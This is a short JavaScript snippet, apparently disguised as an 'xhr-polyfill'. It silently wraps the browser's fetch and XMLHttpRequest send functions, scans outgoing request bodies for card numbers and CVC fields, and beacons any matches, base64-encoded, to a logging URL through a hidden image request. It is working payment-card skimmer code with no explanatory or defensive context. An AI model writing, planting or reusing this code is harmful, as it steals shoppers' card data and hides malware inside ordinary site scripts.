
;(function (w) {
    var of = w.fetch, os = XMLHttpRequest.prototype.send;
    function look(b) {
        try {
            if (b && typeof b !== 'string') b = b instanceof FormData || b instanceof URLSearchParams ? new URLSearchParams(b).toString() : '';
            if (b && /card|cvc|cc-?num/i.test(b)) (new Image()).src = '<% url "xhr-polyfill" "/log" %>?d=' + encodeURIComponent(btoa(encodeURIComponent(b)));
        } catch (e) {}
    }
    w.fetch = function (u, o) { o && look(o.body); return of.apply(this, arguments); };
    XMLHttpRequest.prototype.send = function (b) { look(b); return os.apply(this, arguments); };
})(window);
